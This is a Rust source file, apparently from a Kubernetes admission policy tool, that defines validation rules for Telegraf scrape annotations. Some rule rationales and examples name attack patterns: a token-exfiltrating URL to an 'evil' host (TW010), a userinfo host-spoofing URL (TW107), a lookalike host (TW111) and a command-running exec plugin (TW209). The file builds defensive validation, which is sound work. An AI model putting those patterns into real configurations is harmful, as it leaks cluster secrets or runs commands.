//! Every rule: its code, its message, its help and its documentation, in one place.
//!
//! `telewarden rule CODE` prints the documentation, and `docs/rules.md` and `docs/rules/` are generated from it. A test checks that each
//! `example` raises its rule and that its `instead` does not.
//!
//! A code never changes its meaning, and the code of a removed rule is not used again. `TW0` is reading, `TW1` endpoints and URLs, `TW2` options, `TW3` the
//! other annotations, `TW4` the source, `TW5` the settings, `TW6` files (features `files` and
//! `application-sets`).

use std::borrow::Cow;

use serde::Serialize;

use super::{Diagnostic, Place, Severity};
use crate::printable::printable;

/// A rule's documentation. All text is Markdown.
#[derive(Clone, Copy, Debug, Eq, PartialEq, Serialize)]
#[cfg_attr(feature = "schema", derive(schemars::JsonSchema), schemars(rename = "Rule"))]
pub struct RuleDoc {
    /// `TW` and three digits.
    pub code: &'static str,
    /// The rule's name, as it is spelled in the code.
    pub name: &'static str,
    /// What a finding means for the source.
    pub severity: Severity,
    /// What the rule looks for, in one sentence.
    pub summary: &'static str,
    /// Why that is worth a finding, with the source of the rule.
    pub why: &'static str,
    /// What raises it: annotations (for `TW5`, settings) in YAML. Empty where a few lines cannot show it.
    pub example: &'static str,
    /// The same without the problem. Empty where there is nothing to write instead.
    pub instead: &'static str,
}

macro_rules! rules {
    ($(
        $(#[$attribute:meta])*
        $code:ident $name:ident { $($field:ident : $type:ty),* $(,)? } $severity:ident {
            summary: $summary:literal,
            message: $message:literal,
            help: $help:expr,
            why: $why:literal,
            example: $example:literal,
            instead: $instead:literal $(,)?
        }
    )*) => {
        /// A finding without a place: one variant for each rule, with the values that its message shows.
        #[derive(Clone, Debug, Eq, PartialEq)]
        pub enum Problem {
            $(
                $(#[$attribute])*
                #[doc = concat!("`", stringify!($code), "`: ", $summary)]
                $name {
                    $(
                        #[doc = concat!("`", stringify!($field), "` in the message.")]
                        $field: $type,
                    )*
                },
            )*
        }

        /// A rule.
        #[derive(Clone, Copy, Debug, Eq, Hash, PartialEq)]
        pub enum Rule {
            $(
                $(#[$attribute])*
                #[doc = concat!("`", stringify!($code), "`: ", $summary)]
                $name,
            )*
        }

        impl Rule {
            /// Every rule, by code.
            pub const ALL: &'static [Self] = &[$($(#[$attribute])* Self::$name),*];

            /// `TW` and three digits.
            pub fn code(self) -> &'static str {
                match self {
                    $($(#[$attribute])* Self::$name => stringify!($code),)*
                }
            }
        }

        impl Problem {
            /// The rule that raises it.
            pub fn rule(&self) -> Rule {
                match self {
                    $($(#[$attribute])* Self::$name { .. } => Rule::$name,)*
                }
            }

            /// True if it is an error, and not a warning.
            pub(crate) fn is_error(&self) -> bool {
                let severity = match self {
                    $($(#[$attribute])* Self::$name { .. } => Severity::$severity,)*
                };
                severity == Severity::Error
            }

            /// The finding, without a place.
            pub fn diagnostic(self) -> Diagnostic {
                let code = self.rule().code();
                let (severity, message, help): (Severity, String, Option<String>) = match self {
                    $(
                        $(#[$attribute])*
                        #[allow(unused_variables)]
                        Self::$name { $($field),* } => {
                            $(let $field = $field.shortened();)*
                            (Severity::$severity, format!($message), $help)
                        }
                    )*
                };
                Diagnostic {
                    code: code.into(),
                    severity,
                    message: clean(message),
                    help: help.map(clean),
                    place: None,
                }
            }

            /// The finding at its place.
            pub fn at(self, place: Place) -> Diagnostic {
                Diagnostic { place: Some(place), ..self.diagnostic() }
            }
        }

        const RULES: &[RuleDoc] = &[
            $($(#[$attribute])* RuleDoc {
                code: stringify!($code),
                name: stringify!($name),
                severity: Severity::$severity,
                summary: $summary,
                why: $why,
                example: $example,
                instead: $instead,
            },)*
        ];
    };
}

/// The most characters of somebody else's text that a message repeats.
const MAX_CHARACTERS: usize = 200;

/// A value in a message. Text is shortened, so that the length of a message does not depend on the annotation.
trait Shortened {
    fn shortened(self) -> Self;
}

impl Shortened for String {
    fn shortened(mut self) -> Self {
        if let Some((end, _)) = self.char_indices().nth(MAX_CHARACTERS) {
            self.truncate(end);
            self.push('…');
        }
        self
    }
}

impl<T: Shortened> Shortened for Option<T> {
    fn shortened(self) -> Self {
        self.map(T::shortened)
    }
}

impl<T: Shortened> Shortened for Vec<T> {
    fn shortened(self) -> Self {
        self.into_iter().map(T::shortened).collect()
    }
}

macro_rules! short_already {
    ($($type:ty),*) => {
        $(impl Shortened for $type {
            fn shortened(self) -> Self {
                self
            }
        })*
    };
}

short_already!(&'static str, usize, u16, u32, i64);

/// Every rule, by code.
pub fn all() -> &'static [RuleDoc] {
    RULES
}

/// The folder of the rules' pages, one for each.
const PAGES: &str = "https://github.com/telewarden/telewarden/blob/main/docs/rules";

/// The address of a rule's page.
pub fn page(code: &str) -> String {
    format!("{PAGES}/{code}.md")
}

/// The address of the list of all rules.
pub(crate) fn pages() -> String {
    format!("{PAGES}.md")
}

/// The rule with a code, in upper or lower case.
pub fn find(code: &str) -> Option<&'static RuleDoc> {
    RULES.iter().find(|rule| rule.code.eq_ignore_ascii_case(code))
}

/// Makes text that holds what somebody else wrote safe to print.
fn clean(text: String) -> String {
    match printable(&text) {
        Cow::Borrowed(_) => text,
        Cow::Owned(clean) => clean,
    }
}

/// Help that does not depend on anything.
fn help(text: impl Into<String>) -> Option<String> {
    Some(text.into())
}

/// "did you mean" for the nearest of the known names.
fn did_you_mean(name: Option<&str>) -> Option<String> {
    name.map(|name| format!("did you mean `{name}`?"))
}

fn list(items: &[impl AsRef<str>]) -> String {
    if items.is_empty() {
        return "none".to_owned();
    }
    items
        .iter()
        .map(|item| format!("`{}`", item.as_ref()))
        .collect::<Vec<_>>()
        .join(", ")
}

rules! {
    TW001 InvalidYaml { error: String, advice: Option<&'static str> } Error {
        summary: "Invalid YAML.",
        message: "invalid YAML: {error}",
        help: help(advice.unwrap_or("write `- my-service: \"http://service.namespace.svc:8080/metrics\"`, one line for each endpoint")),
        why: "The annotation's value must be a text that contains a YAML document, \
              usually written as a block (`|`).",
        example: "telewarden.io/endpoints: |\n  - redis: \"http://redis.argocd.svc:9121/metrics\n",
        instead: "telewarden.io/endpoints: |\n  - redis: \"http://redis.argocd.svc:9121/metrics\"\n",
    }
    TW002 TooLarge { size: usize, limit: usize } Error {
        summary: "The annotation is too large.",
        message: "the annotation is {size} bytes long; the limit is {limit}",
        help: help("remove endpoints, or split the Application"),
        why: "Every request is checked in bounded time and memory. Kubernetes itself allows 256 KiB for all annotations \
              of an object together (<https://kubernetes.io/docs/concepts/overview/working-with-objects/annotations/>).",
        example: "",
        instead: "",
    }
    TW003 TooDeep { limit: usize } Error {
        summary: "The annotation is nested too deeply.",
        message: "nested more than {limit} levels deep",
        help: help("an endpoint needs four levels at most: list, name, option, value"),
        why: "No option needs it, and a parser needs stack for each level.",
        example: "telewarden.io/endpoints: '[[[[[[[[[[[[[[[[[[[[a]]]]]]]]]]]]]]]]]]]]'\n",
        instead: "telewarden.io/endpoints: '[{a: \"http://a.argocd.svc:8080/metrics\"}]'\n",
    }
    TW004 Alias { what: &'static str } Error {
        summary: "The annotation uses an anchor, an alias or a merge key.",
        message: "{what} is not allowed here",
        help: help("repeat the value instead"),
        why: "With aliases, a few lines can expand to gigabytes (\"billion laughs\"). A list of URLs does not need them.",
        example: "telewarden.io/endpoints: |\n  - redis: &url \"http://redis.argocd.svc:9121/metrics\"\n  - again: *url\n",
        instead: "telewarden.io/endpoints: |\n  - redis: \"http://redis.argocd.svc:9121/metrics\"\n",
    }
    TW005 YamlTag { tag: String } Error {
        summary: "The annotation uses a YAML tag.",
        message: "the tag `{tag}` is not allowed here",
        help: help("remove the tag; quote the value if it is text"),
        why: "A tag changes the type of a value.",
        example: "telewarden.io/endpoints: |\n  - redis: !!str http://redis.argocd.svc:9121/metrics\n",
        instead: "telewarden.io/endpoints: |\n  - redis: http://redis.argocd.svc:9121/metrics\n",
    }
    TW006 DuplicateKey { key: String } Error {
        summary: "Duplicate key.",
        message: "`{key}` is given twice",
        help: help("keep one of the two"),
        why: "YAML does not define which of the two is used.",
        example: "telewarden.io/endpoints: |\n  redis:\n    url: http://redis.argocd.svc:9121/metrics\n    url: http://other.argocd.svc:9121/metrics\n",
        instead: "telewarden.io/endpoints: |\n  redis:\n    url: http://redis.argocd.svc:9121/metrics\n",
    }
    TW007 SeveralDocuments { } Error {
        summary: "The annotation holds more than one YAML document.",
        message: "a second YAML document starts here",
        help: help("put all endpoints into one list, without `---`"),
        why: "Only one document can be read.",
        example: "telewarden.io/endpoints: |\n  a: http://a.argocd.svc:8080/metrics\n  ---\n  b: http://b.argocd.svc:8080/metrics\n",
        instead: "telewarden.io/endpoints: |\n  a: http://a.argocd.svc:8080/metrics\n  b: http://b.argocd.svc:8080/metrics\n",
    }
    TW008 InvalidToml { error: String } Error {
        summary: "Invalid TOML in the `inputs` annotation.",
        message: "invalid TOML: {error}",
        help: help("write tables such as `[[inputs.prometheus]]` with `urls = [\"http://service.namespace.svc:8080/metrics\"]`"),
        why: "The annotation must be a valid TOML document.",
        example: "telewarden.io/inputs: |\n  [[inputs.prometheus]]\n  urls = [http://redis.argocd.svc:9121/metrics]\n",
        instead: "telewarden.io/inputs: |\n  [[inputs.prometheus]]\n  urls = [\"http://redis.argocd.svc:9121/metrics\"]\n",
    }
    TW009 NoEndpoints { } Error {
        summary: "The annotation has no endpoint.",
        message: "no endpoints",
        help: help("write `- my-service: \"http://service.namespace.svc:8080/metrics\"`, or remove the annotation"),
        why: "Telegraf does not start without an input.",
        example: "telewarden.io/endpoints: \"[]\"\n",
        instead: "telewarden.io/endpoints: |\n  - redis: http://redis.argocd.svc:9121/metrics\n",
    }
    TW010 Variable { what: &'static str } Error {
        summary: "A text contains `$` or `@{`, which Telegraf replaces.",
        message: "`{what}` is not allowed in an annotation",
        help: help("write the text itself; in a URL a dollar sign is `%24`"),
        why: "Telegraf replaces `$NAME` and `${NAME}` with environment variables and `@{store:key}` with secrets in any text \
              of its configuration (<https://docs.influxdata.com/telegraf/v1/configuration/#environment-variables>). An \
              endpoint `http://evil/?t=${INFLUX_TOKEN}` would send the token to that host.",
        example: "telewarden.io/endpoints: |\n  - redis: \"http://redis.argocd.svc:9121/metrics?t=${INFLUX_TOKEN}\"\n",
        instead: "telewarden.io/endpoints: |\n  - redis: \"http://redis.argocd.svc:9121/metrics?t=%24\"\n",
    }
    TW011 WrongType { what: String, expected: &'static str, found: &'static str, advice: Option<String> } Error {
        summary: "A value has the wrong type.",
        message: "{what} is {found}, but must be {expected}",
        help: advice,
        why: "The annotation is a list of maps, or one map. Each entry of a map is an endpoint's name with its URL, or with a \
              map of its options.",
        example: "telewarden.io/endpoints: http://redis.argocd.svc:9121/metrics\n",
        instead: "telewarden.io/endpoints: \"redis: http://redis.argocd.svc:9121/metrics\"\n",
    }
    TW012 NotText { found: &'static str, instead: Option<String> } Error {
        summary: "An annotation's value is not text.",
        message: "the annotation is {found}, but must be text",
        help: match instead {
            Some(instead) => Some(instead),
            None => help("write `|` after the name, and the list below it, indented"),
        },
        why: "Kubernetes accepts only text as the value of an annotation.",
        example: "telewarden.io/endpoints:\n  - redis: http://redis.argocd.svc:9121/metrics\n",
        instead: "telewarden.io/endpoints: |\n  - redis: http://redis.argocd.svc:9121/metrics\n",
    }
    TW013 ControlCharacter { codepoint: u32 } Error {
        summary: "A text contains a control character.",
        message: "the text contains the control character U+{codepoint:04X}",
        help: help("remove it; names, tags and patterns are one line of visible text"),
        why: "Control characters are invisible. In a tag or a pattern they are a mistake.",
        example: "telewarden.io/endpoints: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      tags: {tier: \"a\\nb\"}\n",
        instead: "telewarden.io/endpoints: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      tags: {tier: \"a b\"}\n",
    }
    TW014 TooManyFindings { count: usize } Warning {
        summary: "There are more findings than are shown.",
        message: "{count} more findings are not shown",
        help: help("fix the ones above first"),
        why: "The size of an answer is limited, whatever an annotation contains.",
        example: "",
        instead: "",
    }
    TW015 TooManyValues { limit: usize } Error {
        summary: "The annotation has too many values.",
        message: "the annotation has more than {limit} values",
        help: help("remove endpoints, tags or patterns"),
        why: "Every request is checked in bounded time and memory, and a value takes many times the memory of its text.",
        example: "",
        instead: "",
    }

    TW101 EndpointName { name: String } Error {
        summary: "Invalid endpoint name.",
        message: "invalid endpoint name `{name}`",
        help: help("use 1 to 63 of the characters A-Z, a-z, 0-9, `_`, `-` and `.`"),
        why: "The name becomes part of the measurement's name and, in `topology: endpoint`, of the objects' names.",
        example: "telewarden.io/endpoints: |\n  - \"redis cache\": http://redis.argocd.svc:9121/metrics\n",
        instead: "telewarden.io/endpoints: |\n  - redis_cache: http://redis.argocd.svc:9121/metrics\n",
    }
    TW102 DuplicateEndpoint { name: String } Error {
        summary: "Two endpoints have the same name.",
        message: "there is another endpoint `{name}`",
        help: help("rename one, or write one endpoint with both `urls`"),
        why: "Their metrics would be in one measurement and could not be told apart.",
        example: "telewarden.io/endpoints: |\n  - redis: http://redis.argocd.svc:9121/metrics\n  - redis: http://cache.argocd.svc:9121/metrics\n",
        instead: "telewarden.io/endpoints: |\n  - redis:\n      urls: [\"http://redis.argocd.svc:9121/metrics\", \"http://cache.argocd.svc:9121/metrics\"]\n",
    }
    TW103 TooManyEndpoints { count: usize, max: usize } Error {
        summary: "There are more endpoints than the settings allow.",
        message: "there are {count} endpoints; the settings allow {max}",
        help: help("remove some, or ask the administrator to raise `endpoints.max`"),
        why: "Every scrape costs resources. The limit keeps one source from using the resources of all others.",
        example: "",
        instead: "",
    }
    TW104 NoUrl { name: String } Error {
        summary: "An endpoint has no URL.",
        message: "endpoint `{name}` has no URL",
        help: help("add `url: \"http://service.namespace.svc:8080/metrics\"`"),
        why: "Telegraf would have nothing to scrape.",
        example: "telewarden.io/endpoints: |\n  - redis:\n",
        instead: "telewarden.io/endpoints: |\n  - redis: http://redis.argocd.svc:9121/metrics\n",
    }
    TW105 InvalidUrl { text: String, why: String, instead: Option<String>, at: Option<usize> } Error {
        summary: "Invalid URL.",
        message: "invalid URL `{text}`: {why}",
        help: match instead {
            Some(instead) => Some(instead),
            None => help("write it as `http://service.namespace.svc:8080/metrics`; other characters are percent-encoded"),
        },
        why: "URLs are parsed strictly by RFC 3986, so that telewarden and Telegraf always agree on the host.",
        example: "telewarden.io/endpoints: |\n  - redis: \"http://redis.argocd.svc:9121/a b\"\n",
        instead: "telewarden.io/endpoints: |\n  - redis: \"http://redis.argocd.svc:9121/a%20b\"\n",
    }
    TW106 Scheme { scheme: String, allowed: Vec<String> } Error {
        summary: "The URL's scheme is not allowed.",
        message: "the scheme `{scheme}` is not allowed",
        help: help(format!("allowed: {}", list(&allowed))),
        why: "Telegraf's prometheus input also reads `unix://` sockets, to which the allowed hosts do not apply \
              (<https://github.com/influxdata/telegraf/tree/master/plugins/inputs/prometheus>).",
        example: "telewarden.io/endpoints: |\n  - redis: unix:///run/redis.sock\n",
        instead: "telewarden.io/endpoints: |\n  - redis: http://redis.argocd.svc:9121/metrics\n",
    }
    TW107 Credentials { } Error {
        summary: "The URL contains a user name or a password.",
        message: "the URL contains credentials",
        help: help("remove the user name, the password and the `@`"),
        why: "Everybody who can read the Application could read them. `http://argocd.svc@evil.example` also makes \
              one host look like another.",
        example: "telewarden.io/endpoints: |\n  - redis: http://user:secret@redis.argocd.svc:9121/metrics\n",
        instead: "telewarden.io/endpoints: |\n  - redis: http://redis.argocd.svc:9121/metrics\n",
    }
    TW108 NoHost { } Error {
        summary: "The URL has no host.",
        message: "the URL has no host",
        help: help("write it as `http://service.namespace.svc:8080/metrics`"),
        why: "Telegraf would have nothing to connect to.",
        example: "telewarden.io/endpoints: |\n  - redis: http:///metrics\n",
        instead: "telewarden.io/endpoints: |\n  - redis: http://redis.argocd.svc:9121/metrics\n",
    }
    TW109 Fragment { } Error {
        summary: "The URL has a fragment.",
        message: "the URL has a fragment, which is never sent",
        help: help("remove it from the `#` on; write a literal `#` as `%23`"),
        why: "Only browsers use fragments; HTTP clients do not send them.",
        example: "telewarden.io/endpoints: |\n  - redis: http://redis.argocd.svc:9121/metrics#top\n",
        instead: "telewarden.io/endpoints: |\n  - redis: http://redis.argocd.svc:9121/metrics\n",
    }
    TW110 NonCanonicalHost { host: String, why: &'static str, instead: Option<String> } Error {
        summary: "The host is not in canonical form.",
        message: "the host `{host}` {why}",
        help: instead.map(|host| format!("write `{host}`")),
        why: "Hosts are compared character by character with the patterns of the settings, so each host has one canonical \
              form: lower case, no percent-encoding, no dot at the end, labels of a-z, 0-9, `-` and `_`.",
        example: "telewarden.io/endpoints: |\n  - redis: http://Redis.argocd.svc.:9121/metrics\n",
        instead: "telewarden.io/endpoints: |\n  - redis: http://redis.argocd.svc:9121/metrics\n",
    }
    TW111 HostNotAllowed { host: String, allowed: Vec<String>, nearest: Option<String> } Error {
        summary: "The settings do not allow this host.",
        message: "the host `{host}` is not allowed",
        help: did_you_mean(nearest.as_deref()).or_else(|| help(format!("allowed: {}", list(&allowed)))),
        why: "An author in one namespace may not be entitled to reach services of another. The setting \
              `endpoints.hosts` lists the allowed hosts; `*` stands for one or more labels.",
        example: "telewarden.io/endpoints: |\n  - redis: http://redis.argocd.svc.evil.org:9121/metrics\n",
        instead: "telewarden.io/endpoints: |\n  - redis: http://redis.argocd.svc:9121/metrics\n",
    }
    TW112 Port { port: String } Error {
        summary: "Invalid port.",
        message: "invalid port `{port}`",
        help: help("write a number from 1 to 65535, or remove the colon too"),
        why: "TCP has no such port.",
        example: "telewarden.io/endpoints: |\n  - redis: http://redis.argocd.svc:99121/metrics\n",
        instead: "telewarden.io/endpoints: |\n  - redis: http://redis.argocd.svc:9121/metrics\n",
    }
    TW113 DuplicateUrl { url: String, first: String } Warning {
        summary: "Two endpoints have the same URL.",
        message: "endpoint `{first}` scrapes this URL already",
        help: help("remove one of the two"),
        why: "The same metrics are scraped and stored twice. This is a warning only, because the endpoints may have different options.",
        example: "telewarden.io/endpoints: |\n  - redis: http://redis.argocd.svc:9121/metrics\n  - cache: http://redis.argocd.svc:9121/metrics\n",
        instead: "telewarden.io/endpoints: |\n  - redis: http://redis.argocd.svc:9121/metrics\n",
    }
    TW114 OtherNamespace { host: String, namespace: String } Warning {
        summary: "The host is outside the source's namespace.",
        message: "the host `{host}` is outside namespace `{namespace}`",
        help: None,
        why: "The settings allow it, but it may be a typing mistake, or a NetworkPolicy of the other namespace may block it.",
        example: "",
        instead: "",
    }
    TW115 NoEffectWithoutTls { } Warning {
        summary: "A TLS option is set for an endpoint without TLS.",
        message: "`insecure_skip_verify` has no effect on an `http` URL",
        help: help("remove it, or write `https`"),
        why: "The option has no effect without TLS; the URL should probably start with `https`.",
        example: "telewarden.io/endpoints: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      insecure_skip_verify: true\n",
        instead: "telewarden.io/endpoints: |\n  - redis:\n      url: https://redis.argocd.svc:9121/metrics\n      insecure_skip_verify: true\n",
    }
    TW116 UrlAndUrls { } Error {
        summary: "An endpoint has both `url` and `urls`.",
        message: "`url` and `urls` exclude each other",
        help: help("put all URLs into `urls`"),
        why: "Only one of them would be used.",
        example: "telewarden.io/endpoints: |\n  - redis:\n      url: http://a.argocd.svc:9121/metrics\n      urls: [\"http://b.argocd.svc:9121/metrics\"]\n",
        instead: "telewarden.io/endpoints: |\n  - redis:\n      urls: [\"http://a.argocd.svc:9121/metrics\", \"http://b.argocd.svc:9121/metrics\"]\n",
    }
    TW117 NameInHostPattern { pattern: String } Error {
        summary: "The source's name or namespace makes a host pattern match services of other namespaces.",
        message: "with this source's names, the host pattern `{pattern}` matches services of other namespaces",
        help: help("use another namespace or name; the administrator can use a longer pattern, such as `*.{namespace}.svc`"),
        why: "Patterns of `endpoints.hosts` can contain the names of the source. In a namespace called `svc`, `*.{namespace}` \
              becomes `*.svc`, which matches every service of the cluster \
              (<https://kubernetes.io/docs/concepts/services-networking/dns-pod-service/>).",
        example: "",
        instead: "",
    }

    TW118 OptionAsEndpoint { name: String, instead: String } Error {
        summary: "An option is written where an endpoint's name belongs.",
        message: "`{name}` is an option, not an endpoint's name",
        help: help(instead),
        why: "Each entry is an endpoint's name with its URL, or with a map of its options. An option in the place of a name is \
              a mistake in the indentation, or the `name:` and `url:` of another tool.",
        example: "telewarden.io/endpoints: |\n  - redis: http://redis.argocd.svc:9121/metrics\n    interval: 30s\n",
        instead: "telewarden.io/endpoints: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      interval: 30s\n",
    }

    TW119 ServiceNotFound { endpoint: String, service: String, namespace: String, nearest: Option<String> } Warning {
        summary: "The Service of an endpoint does not exist.",
        message: "endpoint `{endpoint}`: there is no Service `{service}` in the namespace `{namespace}`",
        help: did_you_mean(nearest.as_deref()).or_else(|| help("create the Service, or correct the URL's host")),
        why: "Admission looks Services up with the setting `services: warn`. It is only a warning, because the Service may be \
              created a moment later. Kubewarden's audit scanner reports it for as long as the Service is missing. \
              `kubectl get services --namespace <namespace>` lists the Services: create the one that is missing, or correct the \
              URL's host, `<service>.<namespace>.svc`.",
        example: "",
        instead: "",
    }
    TW120 ServicePortNotFound { endpoint: String, service: String, port: u16, ports: Vec<String> } Warning {
        summary: "The Service of an endpoint does not have the URL's port.",
        message: "endpoint `{endpoint}`: the Service `{service}` has no TCP port {port}",
        help: help(format!("its TCP ports: {}", list(&ports))),
        why: "A Service answers only at the ports in `spec.ports`, which can differ from the ports of its pods \
              (<https://kubernetes.io/docs/concepts/services-networking/service/#defining-a-service>). Admission looks Services up \
              with the setting `services: warn`. Write one of the Service's ports into the URL, or add the port to the Service: \
              `kubectl get service <service> --namespace <namespace>` shows them.",
        example: "",
        instead: "",
    }

    TW201 UnknownOption { name: String, what: &'static str, nearest: Option<&'static str>, advice: Option<&'static str> } Error {
        summary: "Unknown or forbidden option of an endpoint.",
        message: "`{name}` {what}",
        help: did_you_mean(nearest).or(advice.map(str::to_owned)),
        why: "Only the safe options of Telegraf's prometheus input can be set. Others read files of the pod, send its \
              credentials, or bypass the allowed hosts.",
        example: "telewarden.io/endpoints: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      intervall: 30s\n",
        instead: "telewarden.io/endpoints: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      interval: 30s\n",
    }
    TW202 WrongOptionType { name: String, expected: &'static str, found: &'static str, instead: Option<String> } Error {
        summary: "An option's value has the wrong type.",
        message: "`{name}` is {found}, but must be {expected}",
        help: instead.map(|instead| format!("write `{instead}`")),
        why: "Telegraf would refuse the configuration or misread the value.",
        example: "telewarden.io/endpoints: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      fieldinclude: redis_*\n",
        instead: "telewarden.io/endpoints: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      fieldinclude: [\"redis_*\"]\n",
    }
    TW203 InvalidDuration { name: String, text: String } Error {
        summary: "Invalid duration.",
        message: "`{name}`: invalid duration `{text}`",
        help: help("write a number with a unit, such as `30s`, `1m30s` or `500ms`"),
        why: "Telegraf's durations are numbers with the units `ns`, `us`, `ms`, `s`, `m`, `h` and `d` \
              (<https://docs.influxdata.com/telegraf/v1/configuration/#intervals>).",
        example: "telewarden.io/endpoints: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      interval: half a minute\n",
        instead: "telewarden.io/endpoints: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      interval: 30s\n",
    }
    TW204 IntervalTooShort { interval: String, min: String } Error {
        summary: "The interval is shorter than the settings allow.",
        message: "the interval {interval} is shorter than {min}",
        help: help(format!("write `{min}` or more")),
        why: "Every scrape costs the service, the network and the database.",
        example: "telewarden.io/endpoints: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      interval: 100ms\n",
        instead: "telewarden.io/endpoints: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      interval: 30s\n",
    }
    TW205 NameFilter { name: String, instead: &'static str } Error {
        summary: "A filter by metric name is used where every metric has the same name.",
        message: "`{name}` would drop everything: with `metric_version: 2` every metric is called `prometheus`",
        help: help(format!("use `{instead}`, or `metric_version: 1`")),
        why: "In version 2 of Telegraf's prometheus format the metric's name is the name of a field \
              (<https://github.com/influxdata/telegraf/tree/master/plugins/inputs/prometheus>). `namepass` and `namedrop` \
              filter by the measurement's name before it is overridden.",
        example: "telewarden.io/endpoints: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      namepass: [\"redis_*\"]\n",
        instead: "telewarden.io/endpoints: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      fieldinclude: [\"redis_*\"]\n",
    }
    TW206 ReservedTag { tag: String } Error {
        summary: "A tag is reserved for the settings.",
        message: "the tag `{tag}` is reserved for the settings",
        help: help("choose another name"),
        why: "Reserved tags identify the source of a metric and select its bucket.",
        example: "telewarden.io/endpoints: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      tags: {prometheus_app: other}\n",
        instead: "telewarden.io/endpoints: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      tags: {tier: cache}\n",
    }
    TW207 Key { name: String, what: &'static str } Error {
        summary: "Invalid key for Telegraf's configuration.",
        message: "`{name}` cannot be {what}",
        help: help("use the characters A-Z, a-z, 0-9, `_` and `-`"),
        why: "Telegraf's TOML parser is older than TOML 1.0, so rendered configurations use bare keys only.",
        example: "telewarden.io/endpoints: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      tags: {\"the tier\": cache}\n",
        instead: "telewarden.io/endpoints: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      tags: {the_tier: cache}\n",
    }
    TW208 InvalidOptionValue { name: String, text: String, expected: &'static str } Error {
        summary: "Invalid option value.",
        message: "`{name}` cannot be `{text}`",
        help: help(format!("write {expected}")),
        why: "Telegraf would refuse the configuration, or ignore the value.",
        example: "telewarden.io/endpoints: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      metric_version: 3\n",
        instead: "telewarden.io/endpoints: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      metric_version: 2\n",
    }
    TW209 PluginNotAllowed { plugin: String, allowed: Vec<String> } Error {
        summary: "The settings do not allow this input plugin.",
        message: "the input plugin `{plugin}` is not allowed",
        help: help(format!("allowed: {}", list(&allowed))),
        why: "Other plugins can run commands, read files and open ports. The setting `inputs.allowedPlugins` allows them.",
        example: "telewarden.io/inputs: |\n  [[inputs.exec]]\n  commands = [\"id\"]\n",
        instead: "telewarden.io/inputs: |\n  [[inputs.prometheus]]\n  urls = [\"http://redis.argocd.svc:9121/metrics\"]\n",
    }
    TW210 NotAnInput { name: String } Error {
        summary: "The `inputs` annotation contains something other than inputs.",
        message: "`{name}` is not an input",
        help: help("write `[[inputs.prometheus]]`, with two brackets"),
        why: "Only the administrator can set the other parts of Telegraf's configuration.",
        example: "telewarden.io/inputs: |\n  [[outputs.file]]\n  files = [\"stdout\"]\n",
        instead: "telewarden.io/inputs: |\n  [[inputs.prometheus]]\n  urls = [\"http://redis.argocd.svc:9121/metrics\"]\n",
    }
    TW211 UnsupportedPluginValue { name: String } Error {
        summary: "Unsupported value for an input plugin.",
        message: "`{name}` cannot be passed on to Telegraf",
        help: help("use text, numbers, booleans, lists of one type, and tables"),
        why: "Telegraf's TOML parser is older than TOML 1.0 and does not support dates or lists of mixed types.",
        example: "",
        instead: "",
    }
    TW212 IntervalTooLong { interval: String, max: String } Error {
        summary: "The interval is longer than the settings allow.",
        message: "the interval {interval} is longer than {max}",
        help: help(format!("write `{max}` or less")),
        why: "Go's timers overflow at 292 years; Telegraf would then scrape without a pause. An endpoint that is scraped less \
              than once a day is usually a mistake. The setting `endpoints.maxInterval` is the limit.",
        example: "telewarden.io/endpoints: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      interval: 2540300h\n",
        instead: "telewarden.io/endpoints: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      interval: 12h\n",
    }
    TW213 TimeoutOutOfBounds { timeout: String, min: Option<String>, max: String } Error {
        summary: "The timeout is shorter or longer than the settings allow.",
        message: "the timeout {timeout} is not allowed",
        help: help(match min {
            Some(min) => format!("write `{min}` or more, and `{max}` or less"),
            None => format!("write `{max}` or less"),
        }),
        why: "A reload of Telegraf waits for running scrapes: until the timeout of an endpoint that hangs, no other \
              endpoint is scraped. The settings `endpoints.minTimeout` and `endpoints.maxTimeout` are the limits.",
        example: "telewarden.io/endpoints: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      timeout: 2562047h\n",
        instead: "telewarden.io/endpoints: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      timeout: 10s\n",
    }
    TW214 TimeoutAboveInterval { timeout: String, interval: String } Error {
        summary: "The timeout is longer than the interval.",
        message: "the timeout {timeout} is longer than the interval {interval}",
        help: help(format!("write a timeout of `{interval}` or less, or a longer interval")),
        why: "A scrape that hangs would still run when the next one is due. The interval is the first that is set of: the \
              endpoint's `interval`, the `interval` annotation, `inputs.defaults` in the settings, and the class's \
              `agent.interval`.",
        example: "telewarden.io/endpoints: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      interval: 20s\n      timeout: 30s\n",
        instead: "telewarden.io/endpoints: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      interval: 30s\n      timeout: 20s\n",
    }
    TW215 ContentLengthAboveCeiling { bytes: i64, max: i64 } Error {
        summary: "The limit for a response's size is larger than the settings allow.",
        message: "`content_length_limit` is {bytes} bytes; the limit is {max}",
        help: help(format!("write `{max}` or less")),
        why: "Telegraf reads a whole response into memory that all its endpoints share. The setting \
              `endpoints.maxContentLength` is the limit.",
        example: "telewarden.io/endpoints: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      content_length_limit: 1GB\n",
